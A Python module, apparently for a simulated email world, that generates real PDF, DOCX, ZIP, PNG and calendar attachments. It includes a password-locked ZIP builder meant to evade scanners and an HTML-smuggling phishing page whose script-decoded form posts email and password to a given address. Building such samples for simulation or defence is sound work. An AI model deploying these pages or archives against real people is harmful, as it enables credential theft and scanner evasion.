"""Small real files for attachments: PDF, DOCX, ZIP (plain and locked), PNG, ICS and the smuggling HTML page."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from datetime import UTC, datetime

_ZIP_DATE = (2025, 1, 1, 0, 0, 0)
"""Fixed, so that the same seed gives the same octets."""


def pdf(lines: list[str]) -> bytes:
    """One A4 page with the lines in Helvetica; characters outside Latin-1 become question marks."""
    shown = b"".join(b"(" + _pdf_text(line) + b") Tj T*\n" for line in lines)
    page = b"BT /F1 11 Tf 60 780 Td 15 TL\n" + shown + b"ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources <</Font <</F1 5 0 R>>>>>>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(page), page),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % at for at in offsets)
    out += b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def _pdf_text(line: str) -> bytes:
    """The octets of a PDF literal string (ISO 32000-1, 7.3.4.2)."""
    return line.encode("latin-1", "replace").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def archive(members: list[tuple[str, bytes]]) -> bytes:
    """A deflated ZIP file."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        for name, body in members:
            entry = zipfile.ZipInfo(name, _ZIP_DATE)
            entry.compress_type = zipfile.ZIP_DEFLATED
            out.writestr(entry, body)
    return buffer.getvalue()


def docx(lines: list[str]) -> bytes:
    """The least that Office Open XML asks of a text document (ECMA-376, part 1)."""
    escaped = (line.replace("&", "&amp;").replace("<", "&lt;") for line in lines)
    body = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in escaped)
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    schemas = "http://schemas.openxmlformats.org"
    types = f"""{head}<Types xmlns="{schemas}/package/2006/content-types"><Default Extension="rels" \
ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" \
ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"""
    rels = f"""{head}<Relationships xmlns="{schemas}/package/2006/relationships"><Relationship Id="r1" \
Type="{schemas}/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"""
    text = f'{head}<w:document xmlns:w="{schemas}/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>'
    parts = [("[Content_Types].xml", types), ("_rels/.rels", rels), ("word/document.xml", text)]
    return archive([(name, xml.encode()) for name, xml in parts])


def locked_archive(name: str, body: bytes, password: bytes) -> bytes:
    """A ZIP file with one stored member, encrypted the traditional way (APPNOTE.TXT, section 6.1)."""
    crc = zlib.crc32(body)
    cipher = _zip_encrypt(b"firstsight!" + bytes([crc >> 24]) + body, password)
    label = name.encode()
    fields = struct.pack("<HHHHHIIIHH", 20, 1, 0, 0, 0x5A21, crc, len(cipher), len(body), len(label), 0)
    local = b"PK\x03\x04" + fields + label + cipher
    central = b"PK\x01\x02\x14\x00" + fields + struct.pack("<HHHII", 0, 0, 0, 0, 0) + label
    return local + central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)


def _zip_encrypt(plain: bytes, password: bytes) -> bytes:
    """The three-key stream cipher of PKZIP; weak, and what attackers use to keep scanners out."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc(octet: int, register: int) -> int:
        return ~zlib.crc32(bytes([octet]), register ^ 0xFFFFFFFF) & 0xFFFFFFFF

    def update(octet: int) -> None:
        keys[0] = crc(octet, keys[0])
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc(keys[1] >> 24, keys[2])

    for octet in password:
        update(octet)
    out = bytearray()
    for octet in plain:
        mixed = (keys[2] | 2) & 0xFFFF
        out.append(octet ^ ((mixed * (mixed ^ 1)) >> 8 & 0xFF))
        update(octet)
    return bytes(out)


def png(width: int, height: int, colour: tuple[int, int, int]) -> bytes:
    """A rectangle of one colour: the logo in a signature."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = (b"\x00" + bytes(colour) * width) * height
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def ics(uid: str, title: str, start: int, organizer: str, attendees: tuple[str, ...], note: str) -> str:
    """One meeting of an hour as an iTIP request (RFC 5545, RFC 5546), lines ended by CRLF, not folded."""

    def utc(time: int) -> str:
        return f"{datetime.fromtimestamp(time, UTC):%Y%m%dT%H%M%SZ}"

    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//hagenau//world//EN", "METHOD:REQUEST", "BEGIN:VEVENT"]
    lines += [f"UID:{uid}", f"DTSTAMP:{utc(start - 7200)}", f"DTSTART:{utc(start)}", f"DTEND:{utc(start + 3600)}"]
    lines += [f"SUMMARY:{_ics_text(title)}", f"DESCRIPTION:{_ics_text(note)}", f"ORGANIZER:mailto:{organizer}"]
    lines += [f"ATTENDEE;RSVP=TRUE:mailto:{who}" for who in attendees]
    return "\r\n".join([*lines, "END:VEVENT", "END:VCALENDAR", ""])


def _ics_text(text: str) -> str:
    """TEXT value of RFC 5545, section 3.3.11."""
    escaped = text.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,")
    return escaped.replace("\n", "\\n")


def smuggling_page(action: str, brand: str) -> bytes:
    """An HTML page whose sign-in form exists only after its script has run; it posts to a reserved domain."""
    form = (
        f'<form action="{action}" method="post"><h3>{brand}</h3><input name="u" placeholder="E-mail">'
        '<input name="p" type="password"><button>View document</button></form>'
    )
    packed = base64.b64encode(form.encode()).decode()
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>{brand}</title></head><body>
<div id="r">Loading secure document</div><script>
var k="{packed}";document.getElementById("r").innerHTML=atob(k);
</script></body></html>
""".encode()
